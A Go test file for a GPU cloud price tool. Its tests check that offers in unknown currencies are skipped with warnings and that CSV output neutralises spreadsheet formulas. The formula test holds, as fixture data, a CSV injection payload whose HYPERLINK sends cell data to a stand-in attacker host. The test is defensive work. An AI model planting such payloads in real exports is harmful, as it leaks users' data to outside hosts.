package cli_test

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gpuscout/gpuscout/internal/catalog"
	"github.com/gpuscout/gpuscout/internal/cli"
	"github.com/gpuscout/gpuscout/internal/importer"
	"github.com/gpuscout/gpuscout/internal/sqlite"
	"github.com/shopspring/decimal"
)

const badOffer = "aws/p4d.24xlarge/us-east-1/on-demand"

// storeBadSnapshot writes, through internal/sqlite, a snapshot holding an
// offer priced in XYZ (no exchange rate), a good offer and a band whose
// high is below its low. Should the storage API refuse the unknown
// currency, the offer is stored in USD and changed with plain SQL: what
// matters is what reads do with such a row.
func storeBadSnapshot(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "g.db")
	ctx := context.Background()
	db, err := sqlite.Open(ctx, path)
	if err != nil {
		t.Fatal(err)
	}
	src := catalog.Source{Kind: catalog.SourceOfficialAPI, Ref: "test price file", AsOf: now.Truncate(24 * time.Hour), FetchedAt: now}
	bad := &catalog.Offer{Provider: "aws", InstanceName: "p4d.24xlarge", RegionCode: "us-east-1", Billing: catalog.OnDemand,
		Price: catalog.Price{Hourly: decimal.RequireFromString("20"), Currency: "XYZ"}, Source: src}
	good := &catalog.Offer{Provider: "aws", InstanceName: "g4dn.xlarge", RegionCode: "us-east-1", Billing: catalog.OnDemand,
		Price: catalog.Price{Hourly: decimal.RequireFromString("0.61"), Currency: "USD"}, Source: src}
	band := &catalog.InterruptionBand{Provider: "aws", InstanceName: "p4d.24xlarge", Region: "us-east-1", Band: "20-10%",
		LowPct: decimal.NewFromInt(20), HighPct: decimal.NewFromInt(10), Period: "month", Source: src}
	res := &importer.Result{Source: "aws", Offers: []*catalog.Offer{bad, good}, Bands: []*catalog.InterruptionBand{band}}
	if _, err := db.SaveImport(ctx, res, "sum", "test", now, sqlite.SaveOptions{}); err != nil {
		bad.Price.Currency = "USD"
		if _, err := db.SaveImport(ctx, res, "sum", "test", now, sqlite.SaveOptions{}); err != nil {
			t.Fatal(err)
		}
		raw, err := sql.Open("sqlite", path)
		if err != nil {
			t.Fatal(err)
		}
		defer raw.Close()
		if _, err := raw.Exec(`UPDATE offers SET currency = 'XYZ' WHERE instance_type = 'p4d.24xlarge'`); err != nil {
			t.Fatal(err)
		}
	}
	db.Close()
	return path
}

// TestReadsSurviveUnknownCurrency: a stored offer in a currency without a
// rate (and a broken stored band) is left out with a warning that names it
// and says why; offers, -o json, the web page, the CSV download and the
// API all still answer with everything else.
func TestReadsSurviveUnknownCurrency(t *testing.T) {
	db := storeBadSnapshot(t)
	out, errOut, code := exec(t, false, nil, "offers", "--db", db, "--region", "us-east-1", "--billing", "on-demand")
	if code != 0 {
		t.Fatalf("offers failed (%d): %s", code, errOut)
	}
	for _, want := range []string{"p4d.24xlarge", "21.958", "g4dn.xlarge", "0.6100"} {
		if !strings.Contains(out, want) {
			t.Errorf("offers output lacks %q (the curated p4d price must stand, the good import must show):\n%s", want, out)
		}
	}
	for _, want := range []string{badOffer, `"XYZ"`, "no exchange rate", "interruption band aws/p4d.24xlarge/us-east-1", "high_pct"} {
		if !strings.Contains(errOut, want) {
			t.Errorf("stderr lacks %q:\n%s", want, errOut)
		}
	}
	_, errZH, code := exec(t, false, nil, "offers", "--db", db, "--lang", "zh")
	if code != 0 || !strings.Contains(errZH, "警告：已忽略导入的报价 "+badOffer+"：其币种 \"XYZ\" 没有汇率") {
		t.Errorf("zh warning (%d):\n%s", code, errZH)
	}
	out, _, code = exec(t, false, nil, "offers", "--db", db, "-o", "json", "--currency", "CNY")
	var doc struct {
		Offers   []struct{ ID string } `json:"offers"`
		Warnings []struct {
			Kind, Record, Reason, Detail, Message string
		} `json:"warnings"`
	}
	if code != 0 || json.Unmarshal([]byte(out), &doc) != nil || len(doc.Offers) == 0 {
		t.Fatalf("offers -o json (%d):\n%.500s", code, out)
	}
	if len(doc.Warnings) != 2 || doc.Warnings[0].Record != badOffer || doc.Warnings[0].Reason != "unknown-currency" || doc.Warnings[0].Detail != "XYZ" ||
		doc.Warnings[1].Kind != "interruption-band" || doc.Warnings[1].Reason != "invalid" {
		t.Errorf("warnings field: %+v", doc.Warnings)
	}
	// With a rate for XYZ the stored offer is usable again.
	out, errOut, code = exec(t, false, nil, "offers", "--db", db, "--fx", "XYZ=2", "--region", "us-east-1", "--billing", "on-demand", "--gpu", "A100")
	if code != 0 || !strings.Contains(out, "10.000") || strings.Contains(errOut, badOffer) {
		t.Errorf("with --fx XYZ=2 the offer should cost 10 USD/h and not be warned about (%d):\n%s%s", code, out, errOut)
	}

	base := serve(t, db)
	for _, c := range []struct{ path, want string }{
		{"/offers?region=us-east-1&cheapest_region=false", `data-warning>warning: left out imported offer ` + badOffer},
		{"/offers?lang=zh", "data-warning>警告：已忽略导入的报价 " + badOffer},
		{"/offers.csv?region=us-east-1&cheapest_region=false", "g4dn.xlarge"},
		{"/api/v1/offers?region=us-east-1", `"reason":"unknown-currency"`},
		{"/api/v1/offers/aws/g4dn.xlarge/us-east-1/on-demand", `"record":"` + badOffer + `"`},
	} {
		resp, err := http.Get(base + c.path)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 {
			t.Errorf("%s: status %d: %.300s", c.path, resp.StatusCode, body)
		}
		if !strings.Contains(string(body), c.want) {
			t.Errorf("%s lacks %q:\n%.3000s", c.path, c.want, body)
		}
		if strings.HasPrefix(c.path, "/offers?") && !strings.Contains(string(body), "p4d.24xlarge") {
			t.Errorf("%s lost the other offers", c.path)
		}
	}
}

// syncBuffer is a bytes.Buffer safe for a writer and a reader goroutine.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// serve runs `gpuscout serve` on a free port over the test catalog and db
// until the test ends, and returns its base URL.
func serve(t *testing.T, db string) string {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	var out, errOut syncBuffer
	done := make(chan int, 1)
	go func() {
		done <- cli.Main(ctx, []string{"serve", "--addr", "127.0.0.1:0", "--db", db, "--watch", "0", "--quiet"},
			cli.IO{In: strings.NewReader(""), Out: &out, Err: &errOut},
			cli.Env{Getenv: func(string) string { return "" }, Now: func() time.Time { return now }, IsTTY: func() bool { return false },
				Catalog: os.DirFS("testdata/catalog")})
	}()
	t.Cleanup(func() {
		cancel()
		select {
		case <-done:
		case <-time.After(15 * time.Second):
			t.Error("serve did not stop")
		}
	})
	re := regexp.MustCompile(`on (http://[0-9.:]+)/`)
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		if m := re.FindStringSubmatch(out.String()); m != nil {
			return m[1]
		}
		select {
		case code := <-done:
			t.Fatalf("serve exited with %d: %s", code, errOut.String())
		default:
		}
	}
	t.Fatalf("serve did not start: %s%s", out.String(), errOut.String())
	return ""
}

// TestCSVOutputNeutralisesFormulas: -o csv never writes a cell a
// spreadsheet would run (a source reference from a user's --catalog that
// starts with =), and negative figures stay numbers.
func TestCSVOutputNeutralisesFormulas(t *testing.T) {
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "offers"), 0o755)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	os.WriteFile(filepath.Join(dir, "offers", "extra.csv"), []byte("provider,instance_type,region,billing,hourly,currency,source_kind,source_ref,as_of\n"+
		`aws,g4dn.xlarge,us-west-2,spot,0.2,USD,user,"`+strings.ReplaceAll(evil, `"`, `""`)+`",2026-11-01`+"\n"), 0o644)
	out, errOut, code := exec(t, false, nil, "catalog", "sources", "--catalog", dir, "-o", "csv")
	if code != 0 {
		t.Fatalf("catalog sources (%d): %s", code, errOut)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range recs {
		for _, c := range r {
			if c == evil {
				t.Errorf("formula written as is: %q", c)
			}
			if c == "'"+evil {
				found = true
			}
		}
	}
	if !found {
		t.Errorf("neutralised cell '%s not in:\n%s", evil, out)
	}

	// Negative changes stay numbers.
	db := filepath.Join(t.TempDir(), "g.db")
	raw, _ := os.ReadFile(offerFile)
	second := filepath.Join(t.TempDir(), "offer2.json")
	os.WriteFile(second, []byte(strings.Replace(string(raw), "55.0400000000", "49.5000000000", 1)), 0o644)
	for _, f := range []string{offerFile, second} {
		if _, errOut, code := exec(t, false, nil, "catalog", "import", "aws", "--file", f, "--db", db); code != 0 {
			t.Fatal(errOut)
		}
	}
	out, errOut, code = exec(t, false, nil, "catalog", "diff", "--db", db, "-o", "csv")
	if code != 0 || !strings.Contains(out, ",-10.1") || strings.Contains(out, "'-") {
		t.Errorf("diff -o csv (%d) should keep -10.1 a number:\n%s%s", code, out, errOut)
	}
}
